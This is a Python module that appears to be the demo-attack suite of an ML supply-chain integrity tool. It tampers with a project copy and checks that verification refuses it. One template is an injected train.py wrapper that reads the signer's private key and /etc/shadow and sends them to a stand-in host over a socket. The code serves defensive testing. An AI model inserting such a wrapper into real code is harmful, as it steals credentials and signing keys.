"""The demo's attacks: tamper with a copy, then do what an honest user would do next, and be refused.

Each runs on a copy of the project, which keeps its root and gets no new keys. What must be raised is named
beforehand; anything else, and above all nothing, means that the attack was not stopped.
"""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from lockgate.audit.entries import registrations
from lockgate.core.digest import hex_of
from lockgate.errors import LockgateError, Usage
from lockgate.project import Project
from lockgate.trust import pin

COPIED = ("registry", "log", "data", "env")

_ESCAPE = """

# --- what an attacker added -------------------------------------------------
def _exfiltrate(data):
    import pathlib
    import socket

    found = []
    for path in ({secret!r}, "/etc/shadow"):
        try:
            found.append(pathlib.Path(path).read_bytes())
        except OSError as error:
            print("reading", path, "->", error)
    try:
        socket.create_connection(("192.0.2.7", 443), timeout=2).sendall(b"".join(found))
    except OSError as error:
        print("sending it away ->", error)


_honest = train


def train(data, params):
    _exfiltrate(data)
    return _honest(data, params)
"""


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes:
        tamper: changes the copy; returns what it did, in one line.
        attempt: what an honest user does next.
        finding: what must stop it.
        command: the same attempt on the command line.
        means: what the attacker would have gained.
    """

    id: str
    title: str
    tamper: Callable[[Project], str]
    attempt: Callable[[Project], object]
    finding: str
    command: str
    means: str


@dataclass(frozen=True)
class Outcome:
    """What came of an attack."""

    attack: Attack
    did: str
    stopped: bool
    error: LockgateError | None

    def as_json(self) -> dict[str, object]:
        """For `--json`."""
        return {
            "id": self.attack.id,
            "title": self.attack.title,
            "did": self.did,
            "stopped": self.stopped,
            "finding": self.error.finding if self.error else None,
            "message": self.error.message if self.error else None,
            "exit_code": self.error.exit_code if self.error else 0,
        }


def replay(attack: Attack, project: Project, place: Path) -> Outcome:
    """Copy `project` into `place`, tamper with the copy, try; say whether the named finding stopped it."""
    copy = copy_of(project, place / attack.id)
    did = attack.tamper(copy)
    try:
        attack.attempt(copy)
    except LockgateError as error:
        return Outcome(attack, did, error.finding == attack.finding, error)
    return Outcome(attack, did, stopped=False, error=None)


def copy_of(project: Project, place: Path) -> Project:
    """A copy of the project's files and evidence. Its keys and its pin are those of the original."""
    shutil.copytree(project.root, place, symlinks=True, ignore=shutil.ignore_patterns(".lockgate"))
    home = place / ".lockgate"
    for name in COPIED:
        source = project.home / name
        if source.is_dir():
            # The environment is large and nothing tampers with it: linked where it can be.
            shutil.copytree(source, home / name, symlinks=True, copy_function=link if name == "env" else shutil.copy2)
    (home / "state" / "tmp").mkdir(parents=True)
    trusted = project.trusted_root()
    seen = home / "state" / "seen"
    shutil.copytree(project.seen_folder or pin.seen_folder(trusted), seen)
    return Project(place, project.now, seen)


def link(source: str, target: str) -> None:
    """A second name of a file that nobody changes; a copy where there can be none. For `shutil.copytree`."""
    try:
        os.link(source, target)
    except OSError:
        shutil.copy2(source, target)


def attack(name: str) -> Attack:
    """An attack by its id. Raises Usage (LG950)."""
    if name not in ATTACKS:
        raise Usage(
            "LG950",
            f"there is no demo attack {name!r}",
            seen={"attacks": list(ATTACKS)},
            next=f"lockgate demo --attack {next(iter(ATTACKS))}",
        )
    return ATTACKS[name]


def _flip_model(project: Project) -> str:
    newest = registrations(project.ledger().statements())[-1]
    path = project.home / "registry" / "blobs" / "sha256" / hex_of(newest.file("model.onnx").digest)
    content = bytearray(path.read_bytes())
    middle = len(content) // 2
    content[middle] ^= 0x01
    path.chmod(0o644)
    path.write_bytes(content)
    return f"flipped one bit of byte {middle:,} of {newest.ref}'s model.onnx in the registry"


def _edit_log(project: Project) -> str:
    index = next(one.index for one in project.ledger().statements("validate"))
    folder = project.home / "log" / "events" / "tile" / "entries"
    bundle = max(folder.glob("000*/*"), key=lambda path: int(path.name))
    content = bundle.read_bytes()
    place = content.index(b'"claim":"validate"')
    bundle.chmod(0o644)
    bundle.write_bytes(content[:place] + b'"claim":"vALidate"' + content[place + 18 :])
    return f"rewrote log entry {index}, the validate statement's"


def _escape(project: Project) -> str:
    secret = project_key(project)
    script = project.root / "train.py"
    script.write_text(script.read_text(encoding="utf-8") + _ESCAPE.format(secret=str(secret)), encoding="utf-8")
    return f"made train.py read {secret.name} and /etc/shadow and send them to 192.0.2.7"


def project_key(project: Project) -> Path:
    """Where the signer's private key of a project is."""
    return pin.key_folder(project.trusted_root()) / "signer.key"


ATTACKS: dict[str, Attack] = {
    one.id: one
    for one in (
        Attack(
            "flipped-model",
            "a byte of the model is flipped in the registry",
            _flip_model,
            lambda project: project.verify("latest"),
            "LG802",
            "lockgate verify latest",
            "answers from a model that nobody trained, judged or signed",
        ),
        Attack(
            "edited-log",
            "an entry of the audit log is edited",
            _edit_log,
            lambda project: project.verify_logs(),
            "LG706",
            "lockgate log verify",
            "history that says something else than what happened",
        ),
        Attack(
            "escaping-training",
            "the training script reads a key and sends it away",
            _escape,
            lambda project: project.run_stage("train", environment="prod"),
            "LG330",
            "lockgate train --env prod",
            "the keys, and with them every signature",
        ),
    )
}
